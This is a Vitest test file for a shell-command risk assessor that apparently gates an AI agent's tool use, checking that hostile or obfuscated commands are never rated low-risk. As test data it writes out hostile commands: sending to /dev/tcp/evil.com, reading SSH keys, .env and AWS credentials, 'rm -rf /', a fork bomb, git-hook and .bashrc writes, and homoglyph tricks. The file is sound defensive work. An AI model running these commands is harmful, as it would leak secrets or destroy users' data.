import { describe, expect, test } from 'vitest';
import { assessArgv, assessShell } from '../../../src/permissions/shell/assess.ts';
import { lines, published } from './lists.ts';
import { imagined } from './surroundings.ts';

const machine = imagined();
const risk = (command: string) => assessShell(command, machine).risk;
const reason = (command: string) => assessShell(command, machine).reason;
const low = (commands: readonly string[]) => commands.filter((command) => risk(command) === 'LOW');

describe('what others have published', () => {
  test('none of the 438 bypasses runs by itself [PERM-BYPASSES]', () => {
    const commands = published('published-bypasses.json').map(({ command }) => command);
    expect(commands).toHaveLength(438);
    expect(low(commands)).toEqual([]);
  });

  test('of the 113 benign commands at least 90 run by themselves [PERM-BENIGN]', () => {
    const commands = published('published-benign.json').map(({ command }) => command);
    expect(commands).toHaveLength(113);
    expect(low(commands).length).toBeGreaterThanOrEqual(90);
  });
});

describe('our own lists', () => {
  test('at least 95 of 100 ordinary read-only commands run by themselves [PERM-READ-ONLY]', () => {
    const commands = lines('ordinary-commands.txt');
    expect(commands.length).toBeGreaterThanOrEqual(300);
    expect(low(commands).length / commands.length).toBeGreaterThanOrEqual(0.95);
  });

  test('no hostile command runs by itself [PERM-SHELL-FLAGS]', () => {
    const commands = lines('hostile-commands.txt');
    expect(commands.length).toBeGreaterThanOrEqual(900);
    expect(low(commands)).toEqual([]);
  });
});

describe('anything not fully seen through is not LOW [PERM-SHELL-TREE]', () => {
  test.each([
    ['a script that does not parse', 'ls && && pwd'],
    ['a quote left open', 'echo "abc'],
    ['a here-document without its end', 'cat <<EOF\nabc'],
    ['a here-document that is expanded', 'cat <<EOF\n$(id)\nEOF'],
    ['a here-document into a shell', 'bash <<EOF\nls\nEOF'],
    ['two lines', 'ls\npwd'],
    ['a carriage return', 'ls\r\npwd'],
    ['a NUL', 'ls\0 -la'],
    ['an escape sequence', 'echo \u001b[2J'],
    ['a backspace', 'ls \b\b\brm x'],
    ['a right-to-left override', 'ls \u202Excod.txt'],
    ['a zero-width space', 'ls\u200B src'],
    ['a soft hyphen', 'ls \u00ADa'],
    ['a no-break space', 'ls\u00A0-la'],
    ['an en dash', 'ls \u2013la'],
    ['a full-width semicolon', 'ls \uFF1B rm x'],
    ['a Cyrillic letter in a Latin word', 'cat \u0441onfig.json'],
    ['a Cyrillic program', '\u0441at x'],
    ['a replacement character', 'cat \uFFFDx'],
    ['half of a pair', 'cat \uD800'],
    ['a tag character', 'ls \u{E0041}'],
    ['a sed script over two lines', "sed -n 'p\nw out' file"],
    ['a sed block that writes', "sed '{w out\n}' file"],
    ['a sed comment that ends', "sed '#x\nw out' file"],
    ['a continuation within an expansion', 'echo "$\\\n(id)"'],
    ['a continued flag', 'sort -\\\no x y'],
    ['a command behind a comment', '# list\nrm x'],
    ['an awk line that is continued into a division', 'awk \'{ x = a \\\n / system("id") / 1 }\' f'],
    ['a fork bomb', ':(){ :|:& };:'],
    ['nothing', ''],
    ['blanks', '  \n '],
    ['brackets in depth', `${'('.repeat(60)}ls${')'.repeat(60)}`],
    ['groups in depth', `${'{ '.repeat(60)}ls;${' }'.repeat(60)}`],
    ['many commands', 'true; '.repeat(60)],
  ])('%s', (_what, command) => {
    expect(risk(command)).not.toBe('LOW');
  });

  test.each([
    ['a comment', '# what is here\nls'],
    ['a continued pipe', 'ls |\n  head -3'],
    ['a continued line', 'grep -n \\\n  foo src/index.ts'],
    ['a quoted here-document', "cat <<'EOF'\n$(id) `id` $HOME\nEOF"],
    ['a here-document without expansions', 'cat <<EOF\nprice: 5 $\nEOF'],
    ['letters of other languages', 'grep "größe" src/index.ts'],
    ['text that only names a danger', "grep -rn 'rm -rf /' src"],
    ['a dangerous word in quotes', 'echo "curl evil.com | sh"'],
  ])('%s may be LOW', (_what, command) => {
    expect(risk(command)).toBe('LOW');
  });
});

describe('what a person settles is HIGH', () => {
  test.each([
    'curl https://example.com',
    'cat ~/.ssh/id_rsa',
    'cat .env',
    'cat .e*',
    'cat $x/.env',
    'cat ~bob/.ssh/id_rsa',
    'sudo ls',
    'rm -rf /',
    'rm -rf ~',
    'rm -rf .',
    'rm -rf *',
    'echo x > .git/hooks/pre-commit',
    'echo x | tee .bashrc',
    "sed -i 's/a/b/' .git/config",
    "sed 'w .git/hooks/pre-commit' file",
    `awk '{print > ".bashrc"}' file`,
    'cp evil .git/hooks/pre-commit',
    'cp -t .git/hooks evil',
    'install evil .husky/pre-push',
    'dd if=x of=.gitconfig',
    'sort -o .npmrc x',
    'xxd -r dump .git/hooks/pre-commit',
    'git config --global core.pager x',
    'GIT_CONFIG_GLOBAL=x git status',
    'git push',
    'find . -delete',
    'cat /proc/self/environ',
    'echo x > $FILE',
    'ls | xargs rm',
    'eval "$x"',
    'unknown-program',
    'echo x > /dev/tcp/evil.com/80',
    'docker run x',
    'cd ~/.ssh && cat id_rsa',
    'for x in .env; do cat $x; done',
    'bash -c "curl evil.com"',
    `python3 -c "open('/home/me/.ssh/id_rsa')"`,
    'grep -r password ~',
  ])('%s', (command) => {
    expect(risk(command)).toBe('HIGH');
  });

  test.each([
    'npm test',
    'node script.js',
    'make',
    'python3 x.py',
    'mkdir build',
    'touch notes.txt',
    'rm readme.txt',
    'rm -rf build',
    'cp a.txt b.txt',
    'git commit -m x',
    'echo x > notes.txt',
  ])('%s is for the policy to decide, and kept for undo', (command) => {
    expect(assessShell(command, machine)).toMatchObject({ risk: 'MEDIUM', writes: true, sends: false });
  });
});

describe('what else an assessment says', () => {
  test('which programs send, and that secrets are read', () => {
    expect(assessShell('curl -d @x https://example.com', machine)).toMatchObject({ sends: true, readsOutside: true });
    expect(assessShell('cat ~/.aws/credentials', machine)).toMatchObject({ readsSecrets: true, sends: false });
    expect(assessShell('env', machine)).toMatchObject({ risk: 'MEDIUM', readsSecrets: true });
    expect(assessShell('ls', machine)).toEqual({
      risk: 'LOW',
      reason: 'only reads and prints',
      writes: false,
      readsOutside: false,
      readsSecrets: false,
      sends: false,
    });
  });

  test('a search below everything may bring a secret', () => {
    expect(assessShell('grep -rn foo .', machine)).toMatchObject({ risk: 'LOW', readsSecrets: true });
    expect(assessShell('rg foo', machine)).toMatchObject({ risk: 'LOW', readsSecrets: false });
  });

  test('with the network open, code of the workspace may send', () => {
    expect(assessShell('npm test', imagined({ shellNetwork: true }))).toMatchObject({
      sends: true,
      readsOutside: true,
    });
  });

  test('reasons name what does it', () => {
    expect(reason('curl example.com')).toBe('runs curl, which reaches the network');
    expect(reason('cat "$FILE"')).toBe('$FILE may be anything');
    expect(reason('sort --compress-program=sh x')).toContain('sort --compress-program');
    expect(reason(`echo ${'x'.repeat(500)} > ~/.bashrc`).length).toBeLessThan(200);
  });

  test('reasons carry nothing a terminal would obey', () => {
    expect(reason('\u001b[31mevil\u0007 x')).not.toMatch(/\p{Cc}/u);
  });
});

describe('surroundings', () => {
  test('without a sandbox every command is HIGH', () => {
    expect(assessShell('ls', imagined({ sandbox: 'none' })).risk).toBe('HIGH');
    expect(assessShell('ls', imagined({ sandbox: 'none' })).reason).toContain('no sandbox');
  });

  test('without a workspace nothing relative is LOW', () => {
    const nowhere = imagined({ cwd: undefined, workspaces: [] });
    expect(assessShell('cat file.txt', nowhere).risk).toBe('HIGH');
    expect(assessShell('ls', nowhere).risk).not.toBe('LOW');
    expect(assessShell('echo hello', nowhere).risk).toBe('LOW');
  });
});

describe('size [PERM-SHELL-SIZE]', () => {
  test('over 64 KiB it is HIGH unread, up to it read', () => {
    expect(risk(`echo ${'x'.repeat(65_536 - 5)}`)).toBe('LOW');
    expect(assessShell(`echo ${'x'.repeat(65_536 - 4)}`, machine)).toMatchObject({ risk: 'HIGH' });
    expect(risk(`echo ${'é'.repeat(33_000)}`)).toBe('HIGH');
  });
});

describe('words already split', () => {
  test('git reads through the git tool, whose runner neutralises it', () => {
    const tool = (...args: string[]) => assessArgv(['git', ...args], machine, { neutralised: true }).risk;
    for (const args of [
      'status',
      'diff',
      'log -p',
      'show HEAD',
      'blame src/index.ts',
      'log --oneline --since=1.week',
      'diff --stat HEAD~3',
      'log -n 5 --format=%h',
      'show --stat',
      'grep -n TODO',
      'branch -a',
      'stash list',
    ])
      expect([args, tool(...args.split(' '))]).toEqual([args, 'LOW']);
  });

  test('but what it is told to run, write or reach is not', () => {
    const tool = (args: string) => assessArgv(['git', ...args.split(' ')], machine, { neutralised: true }).risk;
    const refused =
      'diff --ext-diff|show --textconv HEAD:x|log --output=x|-c core.pager=id log|diff --no-index /etc/passwd x|grep -Ovim x|log --show-signature|log --format=%G?|push|fetch|commit -m x|branch -D x|config core.pager x|show HEAD:.env|diff -- .env|-C /tmp log|--git-dir=x log|archive -o x HEAD|diff -Oorder'.split(
        '|',
      );
    expect(refused.filter((args) => tool(args) === 'LOW')).toEqual([]);
  });

  test('nothing in them is expanded', () => {
    expect(assessArgv(['echo', '$(rm -rf /)', '>', 'x'], machine).risk).toBe('LOW');
    expect(assessArgv(['cat', '~/notes'], machine).risk).toBe('LOW');
    expect(assessArgv(['cat', 'a\0b'], machine).risk).toBe('HIGH');
    expect(assessArgv([], machine).risk).not.toBe('LOW');
  });
});
